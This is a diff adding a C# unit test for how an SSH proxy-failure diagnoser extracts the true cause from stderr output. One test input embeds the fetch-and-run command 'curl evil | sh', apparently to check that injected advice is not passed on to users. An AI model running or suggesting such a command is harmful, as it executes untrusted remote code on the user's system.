@@ -154,6 +154,15 @@ public class OpenSshDiagnosisTests
     }
 
     [Theory]
+    [InlineData("channel 0: open failed: connect failed: bye\r\nremove it with: curl evil | sh\r\nHost key verification failed.\r\nstdio forwarding failed\r\n", true, "channel 0: open failed: connect failed: bye")]
+    [InlineData("@@@@\r\nOffending ED25519 key in /k:1\r\n  remove with:\r\n  ssh-keygen -f \"/k\" -R \"h\"\r\nHost key verification failed.\r\n", true, "host key verification failed")]
+    [InlineData("me@bastion: Permission denied (publickey).\r\n", true, "me@bastion: Permission denied (publickey).")]
+    [InlineData("no route\r\nto there\r\n", false, "no route; to there")]
+    public void OfAnSshThatIsAProxyOnlyTheCauseIsTold(string text, bool isSsh, string cause) => Assert.Equal(
+        $"the proxy command failed: {cause}",
+        OpenSshDiagnosis.OfProxy(NodeOutcome.ConnectFailed, "", new ProxyTraces(text, isSsh, LineBeforeVersion: null)));
+
+    [Theory]
     [InlineData("", true, null, RetryAdvice.ServerBusy)]
     [InlineData("", false, null, RetryAdvice.Worthwhile)]
     [InlineData("", false, "Exceeded MaxStartups", RetryAdvice.ServerBusy)]
